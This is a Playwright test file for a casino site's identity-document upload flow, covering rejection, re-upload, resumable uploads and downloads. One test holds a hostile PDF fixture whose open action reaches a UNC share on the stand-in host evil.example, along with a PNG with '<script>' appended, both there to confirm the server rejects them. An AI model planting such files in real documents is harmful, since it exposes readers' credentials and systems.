import { expect, type Page } from '@playwright/test';
import { word } from './cashier.js';
import { sharedCasino } from './casinos.js';
import { submitControlForm } from './control.js';
import {
  choose,
  fetchDocuments,
  getKindSection,
  openVerification,
  papers,
  send,
  unfold,
} from './identity-papers.js';
import { test } from './journey-test.js';

const face = 'Photo of your face';
const uploads = '**/api/user/documents/uploads/*';
const partBytes = 512 * 1024;

const pdfThatOpensAShare = Buffer.from(
  String.raw`%PDF-1.7
1 0 obj
<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\evil.example\\share\\a.pdf) /D [0 /Fit] >> >>
endobj
2 0 obj
<< /Type /Pages /Kids [3 0 R] /Count 1 >>
endobj
3 0 obj
<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>
endobj
trailer
<< /Root 1 0 R >>
startxref
9
%%EOF
`,
);

/** Takes a picture with the browser's camera, which shows a test picture. */
async function photograph(page: Page, heading: string, opener: string): Promise<void> {
  const kind = getKindSection(page, heading);
  await unfold(kind);
  await kind.getByRole('button', { name: word(opener) }).click();
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('button', { name: word('kyc.camera.take') }).click();
  await expect(dialog.getByRole('img', { name: word('kyc.camera.picture') })).toBeVisible();
  await dialog.getByRole('button', { name: word('kyc.camera.use') }).click();
  await expect(dialog).toBeHidden();
  await send(kind);
}

test('documents are sent, rejected with a reason, sent again and approved, and the profile follows', async ({
  page,
}) => {
  const account = await openVerification(page, sharedCasino);
  const address = getKindSection(page, word('kyc.kind.address'));
  await choose(address, papers('bill-june.png'));
  await send(address);
  const [bill] = await fetchDocuments(page.request, sharedCasino, account);
  const reason = 'The bill is dated 4 June';
  await submitControlForm(page.request, sharedCasino, `documents/${bill?.documentId}/reject`, { reason });

  await page.reload();
  await expect(address.getByText(word('kyc.state.rejected'), { exact: true })).toBeVisible();
  await expect(address.getByText(reason)).toBeVisible();
  await choose(address, papers('bill-november.png'));
  await send(address);
  await expect(address.getByText(reason)).toBeHidden();

  await choose(getKindSection(page, word('kyc.kind.identity')), papers('front.png'));
  await send(getKindSection(page, word('kyc.kind.identity')));
  await photograph(page, face, 'kyc.camera.open.face');

  const documents = await fetchDocuments(page.request, sharedCasino, account);
  expect(documents.map(({ kind, status }) => `${kind} ${status}`)).toEqual([
    'face pending-review',
    'identity pending-review',
    'address pending-review',
    'address rejected',
  ]);
  for (const { documentId, status } of documents)
    if (status === 'pending-review')
      await submitControlForm(page.request, sharedCasino, `documents/${documentId}/approve`);

  await page.reload();
  await expect(page.getByText(word('kyc.lag'))).toBeVisible();
  await page.getByRole('button', { name: word('kyc.lag.refresh') }).click();
  await expect(page.getByText(word('kyc.lag'))).toBeHidden();
  await expect(page.getByText(word('kyc.level.identity.approved'))).toBeVisible();
});

test('a document can be photographed, and the picture taken again', async ({ page }) => {
  const account = await openVerification(page, sharedCasino);
  const identity = getKindSection(page, word('kyc.kind.identity'));
  await identity.getByRole('button', { name: word('kyc.camera.open.document') }).click();
  const dialog = page.getByRole('dialog', { name: word('kyc.camera.title.document') });
  await dialog.getByRole('button', { name: word('kyc.camera.take') }).click();
  await dialog.getByRole('button', { name: word('kyc.camera.again') }).click();
  await expect(dialog.getByText(word('kyc.camera.guide.document'))).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await expect(identity.getByRole('button', { name: word('kyc.camera.open.document') })).toBeFocused();
  await photograph(page, word('kyc.kind.identity'), 'kyc.camera.open.document');
  const [picture] = await fetchDocuments(page.request, sharedCasino, account);
  expect(picture?.size).toBeGreaterThan(1_000);
});

test('a file of 25 MB on a slow line continues where the server is after its connection dropped', async ({
  page,
  context,
}) => {
  const account = await openVerification(page, sharedCasino);
  const line = await context.newCDPSession(page);
  await line.send('Network.emulateNetworkConditions', {
    offline: false,
    latency: 20,
    downloadThroughput: 8 * 1024 * 1024,
    uploadThroughput: 4 * 1024 * 1024,
  });
  const offsets: number[] = [];
  await page.route(uploads, async (route) => {
    const request = route.request();
    if (request.method() !== 'PATCH') return route.continue();
    offsets.push(Number(request.headers()['upload-offset']));
    // One part never arrives; the page tries again by itself.
    return offsets.length === 20 ? route.abort('connectionreset') : route.continue();
  });
  const address = getKindSection(page, word('kyc.kind.address'));
  const file = papers('large.png', 25 * 1024 * 1024);
  await choose(address, file);
  await address.getByRole('button', { name: word('kyc.send_one'), exact: true }).click();
  await expect(address.getByRole('progressbar')).toBeVisible();
  await expect(address.getByText(word('kyc.state.pending-review'))).toBeVisible({ timeout: 300_000 });
  const parts = Array.from({ length: 50 }, (_, part) => part * partBytes);
  expect(offsets).toEqual([...parts.slice(0, 20), ...parts.slice(19)]);
  expect(await fetchDocuments(page.request, sharedCasino, account)).toMatchObject([
    { kind: 'address', size: 26_214_400 },
  ]);
});

test('an upload waits while the browser is offline, and continues with the connection', async ({
  page,
  context,
}) => {
  const account = await openVerification(page, sharedCasino);
  let parts = 0;
  let drop: () => void = () => undefined;
  const dropped = new Promise<void>((resolve) => (drop = resolve));
  await page.route(uploads, async (route) => {
    if (route.request().method() === 'PATCH' && ++parts === 2) {
      await context.setOffline(true);
      drop();
      return route.abort('internetdisconnected');
    }
    return route.continue();
  });
  const address = getKindSection(page, word('kyc.kind.address'));
  const file = papers('bill.png', 3 * partBytes);
  await choose(address, file);
  await address.getByRole('button', { name: word('kyc.send_one'), exact: true }).click();
  await dropped;
  await expect(address.getByText(word('kyc.upload.paused.connection'))).toBeVisible();
  await context.setOffline(false);
  await expect(address.getByText(word('kyc.state.pending-review'))).toBeVisible();
  expect(await fetchDocuments(page.request, sharedCasino, account)).toMatchObject([
    { size: file.buffer.length },
  ]);
});

test('files that are not accepted say why, and nothing of them is sent', async ({ page }) => {
  const account = await openVerification(page, sharedCasino);
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.method() !== 'GET' && request.url().includes('/documents')) sent.push(request.url());
  });
  const address = getKindSection(page, word('kyc.kind.address'));
  const good = papers('bill.png');
  await choose(
    address,
    { name: 'animation.gif', mimeType: 'image/gif', buffer: Buffer.from('GIF89a') },
    { ...papers('large.png'), buffer: Buffer.concat([good.buffer, Buffer.alloc(25 * 1024 * 1024)]) },
  );
  await expect(address.getByText(word('kyc.error.UPLOAD_TYPE'))).toBeVisible();
  await expect(address.getByText(word('kyc.error.UPLOAD_TOO_LARGE'))).toBeVisible();
  expect(sent).toEqual([]);
  // A picture with something behind it is found by the server, at the end of the file.
  await choose(address, { ...good, buffer: Buffer.concat([good.buffer, Buffer.from('<script>')]) });
  await address.getByRole('button', { name: word('kyc.send_one'), exact: true }).click();
  await expect(address.getByText(word('kyc.error.UPLOAD_TYPE'))).toHaveCount(2);
  // So is what a PDF does when it is opened.
  await choose(address, { name: 'bill.pdf', mimeType: 'application/pdf', buffer: pdfThatOpensAShare });
  await address.getByRole('button', { name: word('kyc.send_one'), exact: true }).click();
  await expect(address.getByText(word('kyc.error.UPLOAD_PDF_ACTIVE'))).toBeVisible();
  expect(await fetchDocuments(page.request, sharedCasino, account)).toEqual([]);
});

test('a file is sent once only, and its owner can download it', async ({ page }) => {
  const account = await openVerification(page, sharedCasino);
  const address = getKindSection(page, word('kyc.kind.address'));
  const file = papers('bill.png');
  await choose(address, file);
  await send(address);
  await choose(address, { ...file, name: 'copy.png' });
  await address.getByRole('button', { name: word('kyc.send_one'), exact: true }).click();
  await expect(address.getByText(word('kyc.error.UPLOAD_DUPLICATE'))).toBeVisible();
  const download = page.waitForEvent('download');
  await address
    .getByRole('button', { name: word('kyc.document.save').replace('{{name}}', file.name) })
    .click();
  expect((await download).suggestedFilename()).toBe(file.name);
  const [document] = await fetchDocuments(page.request, sharedCasino, account);
  const response = await page.request.get(`/api/user/documents/${document?.documentId}/file`);
  expect(response.headers()['content-disposition']).toContain('attachment');
  // Its picture, rendered anew: nothing is kept as it was sent.
  const served = await response.body();
  expect(served.subarray(1, 4).toString()).toBe('PNG');
  expect([served.includes('paDd'), file.buffer.includes('paDd')]).toEqual([false, true]);
});

test('a guest is asked to log in, and no documents are requested', async ({ page }) => {
  const requested: string[] = [];
  page.on('request', (request) => requested.push(request.url()));
  await page.goto('/profile/verify');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await expect(page.getByRole('main').getByRole('link', { name: word('profile.guest.login') })).toBeVisible();
  expect(requested.filter((url) => url.includes('/document'))).toEqual([]);
});
